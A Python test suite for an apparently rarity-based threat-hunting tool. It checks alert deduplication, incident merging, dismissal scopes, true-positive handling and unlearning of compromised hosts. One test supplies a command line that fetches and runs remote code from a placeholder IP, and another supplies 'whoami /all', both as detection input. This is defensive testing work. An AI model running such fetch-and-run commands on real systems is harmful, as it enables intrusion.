"""A store that grows every day: learnt from, judged, dismissed, unlearnt; each incident told once, none made normal."""

import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from lake_days import ATTACK, EVERYDAY, SYSTEM32, TOOL, Lake, lake

from longtail import models, store
from longtail.ledger.verdicts import Unlearned, Verdict
from longtail.outputs.output import output
from longtail.pipelines.learning import LearnRequest, learn
from longtail.pipelines.verdicts import Replay, say, standing, unlearn
from longtail.prevalence.findings import Hunt
from longtail.prevalence.judgement import judged
from longtail.settings import Settings


def lines(hunt: Hunt) -> str:
    stream = io.StringIO()
    output("jsonl").write(hunt, stream)
    return stream.getvalue()


def judge(made: Lake, alert: str, verdict: str = "benign", scope: str = "host", days: int | None = None) -> None:
    expires = made.now + timedelta(days=days) if days else None
    say(made.kept, Verdict(alert, verdict, scope, "because", made.now, expires))


@pytest.fixture
def quiet(tmp_path: Path) -> Lake:
    """A store of twelve hosts and seven quiet days, all judged."""
    return lake(tmp_path, judged=True)


def test_a_model_alone_gives_what_a_hunt_with_that_baseline_gives(tmp_path: Path) -> None:
    made = lake(tmp_path)
    until = made.date(7)
    made.runs("codb03", ATTACK)
    made.runs("codb05", TOOL)
    made.days(2)
    path = tmp_path / "m.longtail"
    with path.open("wb") as stream:
        models.saved(learn(LearnRequest(made.kept, until=until), made.now), stream)
    found = made.detect(model=str(path)).hunt
    baseline, seen = (store.sightings(made.place, store.Window(*days)) for days in ((None, until), (until, None)))
    hunted = judged(seen, Settings(), ("auto",), baseline)
    assert len(found.alerts) == 2
    assert found.alerts == hunted.alerts
    assert found.populations == hunted.populations


def test_an_incident_is_told_once_and_again_when_it_goes_on(quiet: Lake) -> None:
    quiet.runs("codb03", ATTACK)
    quiet.days()
    first = quiet.detect()
    assert (first.new, first.updated, len(first.hunt.alerts)) == (1, 0, 1)
    assert quiet.detect().days == ()
    again = quiet.detect(since=datetime(2026, 3, 8, tzinfo=UTC))
    assert (again.new, again.known, again.hunt.alerts) == (0, 1, ())
    quiet.runs("codb03", ((SYSTEM32 + "whoami.exe", "whoami /all"),), hour=2)
    quiet.days()
    more = quiet.detect()
    assert (more.new, more.updated) == (0, 1)
    assert more.hunt.alerts[0].id == first.hunt.alerts[0].id
    assert more.hunt.alerts[0].score > first.hunt.alerts[0].score
    assert {"taskkill.exe", "whoami.exe"} <= {
        each.executable.rpartition("\\")[2] for each in more.hunt.alerts[0].executions
    }
    assert len(standing(quiet.kept, quiet.now)) == 1


def test_what_comes_late_in_the_day_is_part_of_the_same_incident(quiet: Lake) -> None:
    quiet.runs("codb03", ATTACK[1:])
    quiet.days()
    first = quiet.detect().hunt.alerts
    quiet.day -= 1
    quiet.fill([("contoso", "codb03", ATTACK[:1], 20)], "what came first came last")
    quiet.day += 1
    more = quiet.detect()
    assert (more.new, more.updated) == (0, 1)
    assert [each.id for each in more.hunt.alerts] == [each.id for each in first]


@pytest.mark.parametrize("where", [lambda day: "codb03", lambda day: f"codb{day:02}"], ids=["repeats", "spreads"])
def test_whoever_repeats_or_spreads_never_becomes_normal(quiet: Lake, where) -> None:  # type: ignore[no-untyped-def]
    for day in range(5):
        quiet.runs(where(day), TOOL)
        quiet.days()
        found = quiet.detect()
        assert len(found.hunt.alerts) == 1, f"on day {day}"
        assert found.hunt.alerts[0].host == where(day)
    model = learn(LearnRequest(quiet.kept), quiet.now)
    assert "syncagent.exe" not in model.habits["name"].to_list()
    assert model.header.left_out == 5


def test_whoever_waits_never_becomes_normal(quiet: Lake) -> None:
    for pause in (0, 3, 4):
        quiet.days(pause)
        quiet.runs("codb03", TOOL)
        quiet.days()
        found = quiet.detect()
        assert len(found.hunt.alerts) == 1
    assert len(standing(quiet.kept, quiet.now)) == 1


def test_what_is_dismissed_alarms_no_more_in_its_scope_until_that_ends(quiet: Lake) -> None:
    quiet.runs("codb03", TOOL)
    quiet.days()
    alert = quiet.detect().hunt.alerts[0].id
    judge(quiet, alert, scope="host", days=4)
    quiet.runs("codb03", TOOL)
    quiet.days()
    assert quiet.detect().hunt.alerts == ()
    assert "syncagent.exe" in learn(LearnRequest(quiet.kept), quiet.now).habits["name"].to_list()
    quiet.runs("codb04", TOOL)
    quiet.days()
    other = quiet.detect().hunt.alerts
    assert [each.host for each in other] == ["codb04"]
    judge(quiet, alert, scope="tenant", days=3)
    quiet.runs("codb04", TOOL)
    quiet.runs("codb05", TOOL)
    quiet.days()
    assert quiet.detect().hunt.alerts == ()
    quiet.days(4)
    quiet.runs("codb06", TOOL)
    quiet.days()
    assert [each.host for each in quiet.detect().hunt.alerts] == ["codb06"]


def test_a_dismissal_excuses_what_was_told_and_nothing_else_of_the_program(quiet: Lake) -> None:
    mail = EVERYDAY[3][0]
    quiet.runs("codb03", ((mail, r"DatabaseMail.exe -export \\fs1\backup"),))
    quiet.days()
    judge(quiet, quiet.detect().hunt.alerts[0].id, scope="tenant")
    quiet.runs("codb04", ((mail, r"DatabaseMail.exe -export \\fs1\backup"),))
    quiet.days()
    assert quiet.detect().hunt.alerts == ()
    quiet.runs("codb03", ((mail, "DatabaseMail.exe --fetch http://198.51.100.7/x --run"),))
    quiet.days()
    assert len(quiet.detect().hunt.alerts) == 1


def test_a_true_positive_is_kept_out_for_ever_wherever_it_shows(quiet: Lake) -> None:
    quiet.runs("codb03", TOOL)
    quiet.days()
    judge(quiet, quiet.detect().hunt.alerts[0].id, "true-positive", "tenant")
    for host in range(4, 12):
        quiet.runs(f"codb{host:02}", TOOL)
    quiet.days()
    assert "syncagent.exe" not in learn(LearnRequest(quiet.kept), quiet.now).habits["name"].to_list()


def test_unlearning_tells_what_changes_and_a_rehearsal_changes_nothing(quiet: Lake) -> None:
    quiet.runs("codb03", TOOL)
    quiet.days()
    alert = quiet.detect().hunt.alerts[0].id
    judge(quiet, alert)
    quiet.runs("codb03", TOOL)
    quiet.days()
    assert quiet.detect().hunt.alerts == ()
    what = Unlearned("not benign after all", quiet.now, alert)
    for rehearse in (True, False):
        assert (standing(quiet.kept, quiet.now)[0].verdict is not None) is True
        changed = unlearn(Replay(quiet.kept, what, rehearse, days=1), quiet.now)
        assert {each.host for each in changed.appear} == {"codb03"}
        assert changed.disappear == ()
    assert standing(quiet.kept, quiet.now)[0].verdict is None
    quiet.runs("codb03", TOOL)
    quiet.days()
    assert len(quiet.detect().hunt.alerts) == 1


def test_a_host_that_was_compromised_is_unlearnt_whole(quiet: Lake) -> None:
    unlearn(Replay(quiet.kept, Unlearned("INC-7", quiet.now, host="codb03"), days=1), quiet.now)
    model = learn(LearnRequest(quiet.kept), quiet.now)
    assert model.header.hosts == 11
    assert model.header.left_out >= 7 * (len(EVERYDAY) - 1)
